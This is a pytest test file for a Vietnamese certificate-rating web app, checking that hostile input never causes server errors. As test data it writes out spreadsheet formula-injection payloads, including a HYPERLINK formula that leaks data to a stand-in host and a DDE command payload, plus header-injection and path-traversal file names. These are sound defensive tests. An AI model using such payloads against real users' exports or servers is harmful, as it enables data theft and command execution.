"""Bad input never answers 500 (issue 12, point 5): ids beyond the integer range, a busy
database, forms that fail validation, names that break headers, formulas in exports and LIKE
wildcards in searches. Every test runs on SQLite and on PostgreSQL."""
from __future__ import annotations

import io
import re
import sqlite3
import zipfile
from datetime import date
from types import SimpleNamespace
from urllib.parse import quote, unquote

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy.exc import OperationalError

from ocop_rating.accounts.roles import Role
from ocop_rating.certificates import services as certificates
from ocop_rating.certificates.models import AuthorityLevel, Certificate, DecisionKind
from ocop_rating.councils import services as councils
from ocop_rating.councils.models import RoundState
from ocop_rating.evaluation import services as scoring
from ocop_rating.evaluation import views as evaluation_views
from ocop_rating.exports import content_disposition, safe_cell, sheet_cell
from ocop_rating.security.ids import MAX_ID, db_id
from tests.conftest import committed, csrf_from, form_post
from tests.factories import (
    accepted_dossier,
    concluded_evaluation,
    issued_certificate,
    make_council,
    make_producer,
    make_user,
)

HUGE = ["2147483648", "99999999999999999999", "0", "-1", "1e3", "９"]


# --- (a) ids out of range ---------------------------------------------------------------

def test_db_id_accepts_only_database_integers():
    assert db_id("1") == 1 and db_id(str(MAX_ID)) == MAX_ID and db_id(" 42 ") == 42
    for bad in HUGE + ["", "abc", "1.0", "12345678901"]:
        with pytest.raises(ValueError):
            db_id(bad)


def _int_rules(app):
    for rule in app.url_map.iter_rules():
        ints = [name for name, conv in rule._converters.items()
                if conv.__class__.__name__ == "BoundedIntConverter"]
        if ints:
            yield rule, ints


def test_every_int_rule_uses_the_bounded_converter(app):
    rules = list(_int_rules(app))
    assert len(rules) > 40
    for rule in app.url_map.iter_rules():
        for conv in rule._converters.values():
            assert "Integer" not in conv.__class__.__name__ or \
                conv.__class__.__name__ == "BoundedIntConverter", rule.rule


def test_oversized_ids_answer_404_on_every_route(app, client, db, login_as):
    login_as(make_user(Role.admin))
    for rule, ints in _int_rules(app):
        for huge in ("2147483648", "99999999999999999999"):
            values = {name: 1 for name in rule.arguments}
            values.update({name: 1 for name in ints})
            url = rule.build(values, append_unknown=False)[1]
            # put the oversized number where the first id goes
            url = re.sub(r"(?<=/)1(?=[/.]|$)|(?<=-)1(?=[/.]|$)", huge, url, count=1)
            assert huge in url, (rule.rule, url)
            method = "GET" if "GET" in rule.methods else "POST"
            response = client.open(url, method=method)
            # 405: another rule (e.g. a GET-only page) has that path; never the int rule.
            assert response.status_code in (404, 405), (method, url, response.status_code)
            assert response.status_code == 404 or method == "POST", url


def test_dossier_urls_named_in_the_issue(client, db, login_as):
    login_as(make_user(Role.admin))
    for url in ("/dossiers/99999999999999999999", "/dossiers/2147483648", "/dossiers/0",
                f"/dossiers/{MAX_ID}"):
        assert client.get(url).status_code == 404, url


def test_oversized_ids_in_forms_and_query_strings(app, client, db, login_as):
    certificate, office = issued_certificate(star=4)
    login_as(office)
    for huge in HUGE:
        response = form_post(client, "/certificates/revoke", {
            "certificate_id": [huge], "revoke-ground": "other", "revoke-number": "1/QĐ",
            "revoke-decided_on": "05/10/2026", "revoke-signer_name": "X",
            "revoke-signer_title": "Y"}, form_page="/certificates/")
        assert response.status_code in (302, 400, 404, 422), (huge, response.status_code)
        for url in (f"/certificates/?star={huge}", f"/dossiers/?page={huge}",
                    f"/notifications/?page={huge}", f"/audit/?page={huge}",
                    f"/reevaluation/?star={huge}&set={huge}"):
            assert client.get(url).status_code < 500, url
    committed(db)
    assert db.session.get(Certificate, certificate.id).revoked_at is None


# --- (b) a busy database --------------------------------------------------------------

@pytest.fixture()
def sheet(db):
    council, office, (_chair, _secretary, member) = make_council(members=3)
    dossier = accepted_dossier()
    round_ = councils.create_legal_rounds(council, 2026, actor=office)[0]
    councils.move_round(round_, RoundState.open, actor=office)
    evaluation = councils.add_to_round(round_, dossier, actor=office)
    councils.move_round(round_, RoundState.scoring, actor=office)
    opened = scoring.open_sheet(evaluation, actor=member.user)
    db.session.commit()
    return SimpleNamespace(member=member, evaluation_id=evaluation.id, sheet_id=opened.id,
                           version=opened.version,
                           page=f"/councils/evaluations/{evaluation.id}/score",
                           save=f"/councils/evaluations/{evaluation.id}/score/save")


def _save(client, sheet, option="1"):
    token = csrf_from(client, sheet.page)
    return client.post(sheet.save, data={"csrf_token": token, "version": str(sheet.version),
                                         "item-1.1": option},
                       headers={"Accept": "application/json"})


@pytest.mark.parametrize("error", [
    sqlite3.OperationalError("database is locked"),
    OperationalError("BEGIN IMMEDIATE", {}, sqlite3.OperationalError("database is locked")),
    OperationalError("SELECT", {}, Exception("deadlock detected")),
], ids=["sqlite3", "sqlalchemy", "deadlock"])
def test_busy_database_answers_503_with_retry_after(client, db, login_as, sheet, monkeypatch,
                                                    error):
    login_as(sheet.member.user)

    def busy():
        raise error

    monkeypatch.setattr(evaluation_views, "begin_write", busy)
    response = _save(client, sheet)
    assert response.status_code == 503
    assert response.headers["Retry-After"] == "2"
    assert response.is_json and response.json["error"]["status"] == 503
    assert "chưa được lưu" in response.json["error"]["message"]
    monkeypatch.undo()
    assert _save(client, sheet).status_code == 200  # and nothing was left half-written


def test_a_real_lock_answers_503(app, client, db, login_as, sheet, monkeypatch):
    """A writer holding the database: SQLite's busy timeout runs out (shortened here), the
    request answers 503. On PostgreSQL the row lock times out the same way."""
    login_as(sheet.member.user)
    engine = db.engine
    if engine.dialect.name == "sqlite":
        holder = sqlite3.connect(engine.url.database, timeout=0, isolation_level=None)
        real = evaluation_views.begin_write

        def short_wait():
            raw = db.session.connection().connection.dbapi_connection
            raw.execute("PRAGMA busy_timeout=200")
            real()

        monkeypatch.setattr(evaluation_views, "begin_write", short_wait)
        holder.execute("BEGIN IMMEDIATE")
        try:
            response = _save(client, sheet)
        finally:
            holder.execute("ROLLBACK")
            holder.close()
    else:
        holder = engine.connect()
        transaction = holder.begin()
        holder.exec_driver_sql("SELECT id FROM score_sheets WHERE id = %s FOR UPDATE",
                               (sheet.sheet_id,))
        real = evaluation_views.begin_write

        def short_wait():
            db.session.execute(db.text("SET LOCAL lock_timeout = '200ms'"))
            real()

        monkeypatch.setattr(evaluation_views, "begin_write", short_wait)
        try:
            response = _save(client, sheet)
        finally:
            transaction.rollback()
            holder.close()
    assert response.status_code == 503, response.get_data(as_text=True)[:500]
    assert response.headers["Retry-After"]
    monkeypatch.undo()
    assert _save(client, sheet).status_code == 200


# --- (c) invalid forms ------------------------------------------------------------------

def test_revocation_form_that_fails_validation_redirects_with_the_message(client, db,
                                                                          login_as):
    certificate, office = issued_certificate(star=4)
    login_as(office)
    response = form_post(client, "/certificates/revoke", {
        "certificate_id": [str(certificate.id)], "revoke-ground": "",
        "revoke-number": "", "revoke-decided_on": "31/02/2026"}, form_page="/certificates/")
    # The form comes back with what was typed and the message (nothing typed is lost).
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "Vui lòng chọn một giá trị." in page and "Số quyết định" in page
    assert "31/02/2026" in page
    committed(db)
    assert db.session.get(Certificate, certificate.id).revoked_at is None


def test_errors_text_is_plain_text_with_labels(app):
    from werkzeug.datastructures import MultiDict

    from ocop_rating.certificates.forms import RevokeForm
    from ocop_rating.forms import errors_text

    with app.test_request_context("/", method="POST"):
        form = RevokeForm(formdata=MultiDict({"ground": "", "decided_on": "x"}), meta={
            "csrf": False})
        form.ground.choices = [("other", "Khác")]
        assert not form.validate()
        text = errors_text(form)
    assert type(text) is str and "Căn cứ thu hồi: Vui lòng chọn một giá trị." in text


def test_no_view_joins_or_flashes_lazy_strings():
    """The 500 came from "; ".join(form.errors…) of lazy strings: the views use errors_text."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "ocop_rating"
    offenders = [f"{p.relative_to(root)}:{i}" for p in root.rglob("*.py")
                 for i, line in enumerate(p.read_text().splitlines(), 1)
                 if "errors.values()" in line or re.search(r"flash\(_l\(", line)]
    assert offenders == [], offenders


# --- (d) file names in headers -----------------------------------------------------------

@pytest.mark.parametrize("name", [
    "giay-chung-nhan-12-QĐ-UBND.zip", '78"; x=<b>-QD-UBND.pdf', "bảng điểm\r\nX-Evil: 1.xlsx",
    "plain.csv", "../../etc/passwd", ""])
def test_content_disposition_is_rfc_6266(name):
    value = content_disposition(name)
    value.encode("latin-1")  # a header the server can send
    assert value.isascii() and "\r" not in value and "\n" not in value
    kind, fallback, star = [p.strip() for p in value.split(";")]
    assert kind == "attachment"
    match = re.fullmatch(r'filename="([A-Za-z0-9._ -]+)"', fallback)
    assert match, fallback
    assert star.startswith("filename*=UTF-8''")
    decoded = unquote(star.split("''", 1)[1])
    assert "/" not in decoded and "\n" not in decoded
    if name and "\n" not in name and "/" not in name:
        assert decoded == name
    assert content_disposition("a.pdf", inline=True).startswith("inline;")


def test_decision_zip_with_vietnamese_and_hostile_number_downloads(client, db, login_as):
    evaluation, office = concluded_evaluation(star=4)
    decision = certificates.create_decision(
        kind=DecisionKind.recognition, level=AuthorityLevel.province,
        province_code=evaluation.council.province_code, number='78"; x=<b>/QĐ-UBND',
        decided_on=date(2026, 7, 15), signer_name="Nguyễn Văn Công",
        signer_title="PHÓ CHỦ TỊCH", actor=office)
    certificates.add_item(decision, evaluation, actor=office)
    certificates.issue_decision(decision, actor=office)
    login_as(office)
    response = client.get(f"/certificates/decisions/{decision.id}/certificates.zip")
    assert response.status_code == 200
    header = response.headers["Content-Disposition"]
    header.encode("latin-1")
    assert header.count(";") == 2 and "<" not in header and '"; x=' not in header
    assert f"filename*=UTF-8''{quote('giay-chung-nhan-78', safe='')}" in header
    assert unquote(header.split("''", 1)[1]) == 'giay-chung-nhan-78"; x=<b>-QĐ-UBND.zip'
    assert zipfile.ZipFile(io.BytesIO(response.data)).namelist()


def _certificate_named(db, product_name: str, number: str):
    """A certificate issued for a product called ``product_name`` (a certificate copies the
    name when issued and is never edited afterwards)."""
    evaluation, office = concluded_evaluation(star=4)
    evaluation.dossier.product.name = product_name
    decision = certificates.create_decision(
        kind=DecisionKind.recognition, level=AuthorityLevel.province,
        province_code=evaluation.council.province_code, number=number,
        decided_on=date(2026, 7, 15), signer_name="Nguyễn Văn Công",
        signer_title="PHÓ CHỦ TỊCH", actor=office)
    certificates.add_item(decision, evaluation, actor=office)
    [certificate] = certificates.issue_decision(decision, actor=office)
    db.session.commit()
    return certificate, office


# --- (e) formulas in exports ------------------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://evil.example/?leak","x")', "+1+1", "-2+3", "@SUM(A1)",
             "\t=1", "\r=1"]


def test_safe_cell_and_sheet_cell():
    for text in DANGEROUS:
        assert safe_cell(text) == "'" + text
    assert safe_cell("Cà phê") == "Cà phê" and safe_cell(None) == "" and safe_cell(5) == "5"
    wb = Workbook()
    for col, text in enumerate(DANGEROUS + ["ok", 3], 1):
        sheet_cell(wb.active, 1, col, text)
    out = io.BytesIO()
    wb.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active[1])
    # the text is kept as written (XML stores a CR as a line break)
    assert [c.value for c in cells[:len(DANGEROUS)]] == [t.replace("\r", "\n") for t in DANGEROUS]
    assert all(c.data_type == "s" for c in cells[:-1]) and cells[-1].data_type == "n"
    assert b"<f>" not in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")


def _xlsx_formulas(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/")
                and b"<f>" in z.read(n)]


def test_score_table_xlsx_writes_a_formula_name_as_text(client, db, login_as):
    evaluation, office = concluded_evaluation(star=4)
    product = evaluation.dossier.product
    product.name = '=HYPERLINK("http://evil.example/?leak","Bấm vào đây")'
    evaluation.dossier.producer.name = "@SUM(1+1)"
    db.session.commit()
    login_as(office)
    response = client.get(f"/councils/rounds/{evaluation.round_id}/scores.xlsx")
    assert response.status_code == 200, response.status_code
    assert _xlsx_formulas(response.data) == []
    book = load_workbook(io.BytesIO(response.data))
    texts = [c.value for ws in book for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
    assert texts and all(v.startswith(("=HYPERLINK", "@SUM")) for v in texts), texts


def test_pipeline_xlsx_writes_a_formula_name_as_text(client, db, login_as):
    _certificate, office = _certificate_named(db, "=1+2", "501/QĐ-UBND")
    login_as(office)
    found = []
    for section in ("window", "late", "lapsed", "extended", "all"):
        response = client.get(f"/reevaluation/pipeline.xlsx?section={section}")
        assert response.status_code == 200
        assert _xlsx_formulas(response.data) == []
        book = load_workbook(io.BytesIO(response.data))
        found += [c for ws in book for row in ws.iter_rows() for c in row if c.value == "=1+2"]
    assert all(c.data_type == "s" for c in found)


def test_audit_csv_writes_formulas_as_text(client, db, login_as):
    from ocop_rating import audit

    admin = make_user(Role.admin, full_name="=cmd|' /C calc'!A0")
    producer, _owner = make_producer()
    audit.record(producer, "edited", actor=admin, note="-2+3")
    db.session.commit()
    login_as(admin)
    response = client.get("/audit/export.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    import csv

    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'-2+3" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


# --- (f) LIKE wildcards -----------------------------------------------------------------

def test_registry_search_treats_percent_and_underscore_literally(client, db):
    a, _ = _certificate_named(db, "Mật ong 100% nguyên chất", "601/QĐ-UBND")
    b, _ = _certificate_named(db, "Mật ong 1000 gam", "602/QĐ-UBND")

    def found(q):
        html = client.get("/registry", query_string={"q": q}).get_data(as_text=True)
        return {n for n in (a.number, b.number) if n in html}

    assert found("100%") == {a.number}
    assert found("%") == {a.number}
    assert found("_") == set()
    assert found("100") == {a.number, b.number}
    api = client.get("/api/v1/registry", query_string={"q": "1_0"}).json
    assert api["total"] == 0


def test_office_producer_search_treats_wildcards_literally(client, db, login_as):
    producer, _owner = make_producer()
    login_as(make_user(Role.admin))

    def listed(q):
        return producer.name in client.get("/producers/", query_string={"q": q}).get_data(
            as_text=True)

    assert listed("") and listed(producer.name[:4])
    assert not listed("%") and not listed("_") and not listed(producer.name[:2] + "%")


def test_a_nul_character_is_refused_with_a_message_on_every_engine(client, db, login_as):
    """PostgreSQL cannot store U+0000 in text (the form fuzz found a 500 on the commune's
    check form): such input is refused with 400 and a message before any view writes."""
    from ocop_rating.accounts.models import User

    admin = login_as(make_user(Role.admin))
    before = db.session.query(User).count()
    response = form_post(client, "/users/new", {"username": "ab\x00cd", "full_name": "X",
                                                "role": "province"}, form_page="/users/new")
    assert response.status_code == 400
    assert "ký tự không hợp lệ" in response.get_data(as_text=True)
    db.session.rollback()
    assert db.session.query(User).count() == before
    # a GET filter is not refused: the page drops the unreadable value
    assert client.get("/registry?q=tra\x00").status_code == 200
    assert admin.id
